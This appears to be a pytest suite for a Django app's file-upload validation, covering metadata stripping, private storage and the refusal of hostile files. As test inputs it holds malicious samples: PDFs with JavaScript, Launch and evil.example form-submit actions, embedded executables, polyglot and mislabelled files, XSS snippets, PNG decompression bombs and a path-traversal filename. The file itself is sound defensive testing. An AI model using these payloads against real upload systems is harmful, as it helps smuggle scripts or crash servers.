"""Upload checks: what is accepted, what is cleaned and what is refused (nothing stored)."""

import io

import pytest
from django.core.exceptions import ValidationError
from PIL import Image
from pypdf import PdfWriter
from pypdf.actions import JavaScript

from accounts import services, uploads
from accounts.models import Evidence
from programs.images import MAX_DECODED_PIXELS
from tests.accounts import files
from tests.accounts.conftest import step

pytestmark = pytest.mark.django_db


def stored_files(settings):
    root = settings.PRIVATE_MEDIA_ROOT
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


def test_pdf_is_accepted_as_is():
    clean = uploads.validate_evidence(files.pdf())
    assert clean.content_type == "application/pdf"
    assert clean.content.read() == files.PDF_BYTES


@pytest.mark.parametrize(
    ("upload", "mime"),
    [
        (files.png(), "image/png"),
        (files.webp(), "image/webp"),
        (files.upload("IMG_0001.JPEG", files.image_bytes("JPEG")), "image/jpeg"),
    ],
)
def test_images_are_accepted_and_re_encoded(upload, mime):
    clean = uploads.validate_evidence(upload)
    assert clean.content_type == mime
    image = Image.open(io.BytesIO(clean.content.read()))
    assert image.size == (64, 48)


def test_gps_and_other_exif_are_removed():
    original = files.jpeg_with_gps()
    assert Image.open(io.BytesIO(original.read())).getexif().get(0x8825) is not None
    clean = uploads.validate_evidence(original)
    data = clean.content.read()
    image = Image.open(io.BytesIO(data))
    exif = image.getexif()
    assert 0x8825 not in exif
    assert 0x010F not in exif
    assert b"PhoneMaker" not in data
    assert b"Exif" not in data[:200]


def test_png_text_metadata_is_removed():
    out = io.BytesIO()
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "home address 12 Elm St")
    Image.new("RGB", (10, 10)).save(out, format="PNG", pnginfo=info)
    clean = uploads.validate_evidence(files.upload("a.png", out.getvalue()))
    assert b"Elm St" not in clean.content.read()


@pytest.mark.parametrize(
    ("upload", "message"),
    [
        (files.upload("card.png", b"PK\x03\x04 this is a zip file"), "named like a PNG image"),
        (files.upload("card.jpg", b"MZ\x90\x00 windows exe"), "named like a JPEG image"),
        (files.upload("report.pdf", b"<html><script>alert(1)</script></html>"), "named like a PDF"),
        (files.upload("report.pdf", files.image_bytes("PNG")), "named like a PDF"),
        (files.upload("card.png", b"%PDF-1.4 fake"), "a PDF with an image's name"),
        (files.upload("notes.docx", b"PK\x03\x04"), "not a file type we accept"),
        (files.upload("script.svg", b"<svg onload=alert(1)>"), "not a file type we accept"),
        (files.upload("noext", files.PDF_BYTES), "not a file type we accept"),
        (files.upload("empty.pdf", b""), "empty"),
        (files.upload("truncated.pdf", b"%PDF-1.7\n1 0 obj <<"), "incomplete or damaged"),
        (
            files.upload("js.pdf", files.pdf_with(b"/OpenAction << /S /JavaScript /JS (x) >>")),
            "scripts",
        ),
        (
            files.upload(
                "js.pdf", b"%PDF-1.4\n<< /OpenAction << /S /JavaScript /JS (x) >> >>\n%%EOF"
            ),
            "could not be read",
        ),
        (files.upload("broken.jpg", files.image_bytes("JPEG")[:60]), "damaged or incomplete"),
        (files.upload("broken.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 40), "damaged or incomplete"),
        (files.big_file(), "the limit is 10 MB"),
        (files.png_bomb(), "pixels"),
        (files.png_bomb(width=100_000, height=100_000), "pixels"),
    ],
)
def test_bad_uploads_are_refused_with_a_clear_message_and_nothing_stored(
    path, student, settings, upload, message
):
    with pytest.raises(ValidationError) as info:
        services.evidence_submit(step=step(path, "CPR card"), file=upload, user=student)
    assert message in " ".join(info.value.messages)
    assert Evidence.objects.count() == 0
    assert stored_files(settings) == []
    assert step(path, "CPR card").status == "todo"


def test_accepted_evidence_is_stored_privately_under_a_random_name(path, student, settings):
    evidence = services.evidence_submit(
        step=step(path, "CPR card"), file=files.jpeg_with_gps("Sam home.jpg"), user=student
    )
    stored = stored_files(settings)
    assert len(stored) == 1
    assert str(stored[0]).startswith(str(settings.PRIVATE_MEDIA_ROOT))
    assert not str(stored[0]).startswith(str(settings.MEDIA_ROOT))
    assert "Sam" not in stored[0].name
    assert evidence.original_name == "Sam home.jpg"
    with pytest.raises(ValueError, match="no URL"):
        evidence.file.url  # noqa: B018
    assert b"PhoneMaker" not in stored[0].read_bytes()


def test_display_names_lose_paths_and_control_characters():
    assert uploads.safe_display_name("../../etc/passwd\x00.pdf") == "passwd.pdf"
    assert uploads.safe_display_name("C:\\Users\\sam\\card.PNG") == "card.PNG"
    assert uploads.safe_display_name("scan.jpeg", extension=".png") == "scan.png"
    assert uploads.safe_display_name("") == "upload"


def test_photo_is_resized_and_saved_as_jpeg_without_metadata():
    big = files.upload(
        "me.png", files.image_bytes("PNG", size=(2000, 1000), mode="RGBA", color=(0, 0, 0, 0))
    )
    clean = uploads.validate_photo(big)
    image = Image.open(io.BytesIO(clean.content.read()))
    assert image.format == "JPEG"
    assert image.size == (512, 256)
    clean = uploads.validate_photo(files.jpeg_with_gps("me.jpg"))
    assert 0x8825 not in Image.open(io.BytesIO(clean.content.read())).getexif()


@pytest.mark.parametrize(
    "upload",
    [files.pdf("me.pdf"), files.upload("me.jpg", files.PDF_BYTES), files.png_bomb("me.png")],
)
def test_photo_must_be_a_real_image(upload):
    with pytest.raises(ValidationError):
        uploads.validate_photo(upload)


# --- PDFs: parsed, not scanned -------------------------------------------------------

EMBEDDED_FILE = {
    "obj4": b"<< /Type /Filespec /F (invoice.exe) /EF << /F 5 0 R >> >>",
    "obj5": b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
}


def _packed_js():
    """JavaScript inside a compressed object stream: no byte of it is in the file."""
    objects = dict(files.PAGES)
    objects[1] = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"
    return files.build_pdf(objects, packed={4: b"<< /S /JavaScript /JS (app.alert(1)) >>"})


def _writer_pdf(js=None, attachment=None):
    """A PDF written by pypdf, optionally with a script or an attached file."""
    writer = PdfWriter()
    writer.add_blank_page(width=612, height=792)
    if js:
        writer.add_open_action(JavaScript(js))
    if attachment:
        writer.add_attachment("invoice.exe", attachment)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (files.pdf_with(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"), "scripts"),
        (files.pdf_with(b"/OpenAction << /S /L#61unch /F (C:\\calc.exe) >>"), "scripts"),
        (files.pdf_with(b"/OpenAction << /S /Launch /F (calc.exe) >>"), "scripts"),
        (_packed_js(), "scripts"),
        (_writer_pdf(js="app.alert(1)"), "scripts"),
        (_writer_pdf(attachment=b"MZ\x90\x00"), "attached files"),
        (files.pdf_with(b"/AA << /WC << /S /JavaScript /JS 4 0 R >> >>", obj4=b"(x)"), "scripts"),
        (
            files.pdf_with(
                b"/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>", **EMBEDDED_FILE
            ),
            "attached files",
        ),
        (files.pdf_with(b"", **EMBEDDED_FILE), "attached files"),
        (files.pdf_with(b"/OpenAction << /S /SubmitForm /F (https://evil.example/) >>"), "form"),
        (files.pdf_with(b"/AcroForm << /Fields [] /XFA 4 0 R >>", obj4=b"(<xdp/>)"), "form"),
        (b"<html><script>alert(1)</script></html>\n" + files.PDF_BYTES, "not one"),
        (
            files.PDF_BYTES.replace(b"\n", b"\n%<html><script>alert(1)</script>\n", 1),
            "web page code",
        ),
        (files.PDF_BYTES + b"PK\x03\x04 a zip file after the end", "other data attached"),
        (b"%PDF-1.7\nnot a pdf at all\n%%EOF\n", "could not be read"),
    ],
)
def test_pdf_bypasses_of_the_old_byte_scan_are_refused(data, message):
    with pytest.raises(ValidationError) as info:
        uploads.validate_evidence(files.upload("score-report.pdf", data))
    assert message in " ".join(info.value.messages)


@pytest.mark.parametrize("data", [files.PDF_BYTES, _writer_pdf()], ids=["by hand", "pypdf"])
def test_a_plain_pdf_is_accepted(data):
    clean = uploads.validate_evidence(files.upload("score-report.pdf", data))
    assert clean.content_type == "application/pdf"
    assert clean.content.read() == data


def test_a_pdf_with_too_many_objects_is_refused_quickly(monkeypatch):
    monkeypatch.setattr(uploads, "PDF_MAX_OBJECTS", 10)
    objects = dict(files.PAGES)
    objects.update({n: b"<< /N %d >>" % n for n in range(4, 40)})
    with pytest.raises(ValidationError, match="too large or complex"):
        uploads.validate_evidence(files.upload("big.pdf", files.build_pdf(objects)))


# --- Images: bounded memory -----------------------------------------------------------


@pytest.fixture
def decodes(monkeypatch):
    """The (width, height, mode) of every image decode, as Pillow performs it."""
    from PIL import ImageFile

    seen = []
    original = ImageFile.ImageFile.load

    def spy(self):
        if getattr(self, "tile", None):
            seen.append((*self.size, self.mode))
        return original(self)

    monkeypatch.setattr(ImageFile.ImageFile, "load", spy)
    return seen


@pytest.mark.parametrize("validate", [uploads.validate_evidence, uploads.validate_photo])
def test_a_40_megapixel_png_is_refused_from_its_header_without_decoding(validate, decodes):
    """The penetration test's file: 155 KB, 6320 x 6320 pixels, 550 MB once decoded."""
    with pytest.raises(ValidationError) as info:
        validate(files.png_bomb("scan.png", width=6320, height=6320))
    assert info.value.code == "too_many_pixels"
    message = " ".join(info.value.messages)
    assert "6320 by 6320 pixels" in message
    assert "12.5 megapixels" in message
    assert decodes == []


def test_a_24_megapixel_jpeg_is_accepted_and_decoded_at_half_size(decodes):
    out = io.BytesIO()
    Image.new("L", (6000, 4000), 200).save(out, "JPEG")
    clean = uploads.validate_evidence(files.upload("IMG_0042.jpg", out.getvalue()))
    assert Image.open(io.BytesIO(clean.content.read())).size == (3000, 2000)
    assert decodes == [(3000, 2000, "L")]


def test_a_big_jpeg_profile_photo_is_decoded_small(decodes):
    out = io.BytesIO()
    Image.new("L", (6000, 4000), 200).save(out, "JPEG")
    clean = uploads.validate_photo(files.upload("me.jpg", out.getvalue()))
    assert Image.open(io.BytesIO(clean.content.read())).size == (512, 341)
    (width, height, _mode) = decodes[0]
    assert width * height <= 1500 * 1000  # 1/4 scale, not 24 megapixels


def test_no_decode_is_larger_than_the_memory_bound(decodes):
    """A 12-megapixel phone photo decodes at full size; nothing decodes larger."""
    out = io.BytesIO()
    Image.new("RGB", (4032, 3024), (10, 20, 30)).save(out, "JPEG")
    uploads.validate_evidence(files.upload("IMG_0043.jpg", out.getvalue()))
    assert decodes == [(4032, 3024, "RGB")]
    assert MAX_DECODED_PIXELS >= 4032 * 3024
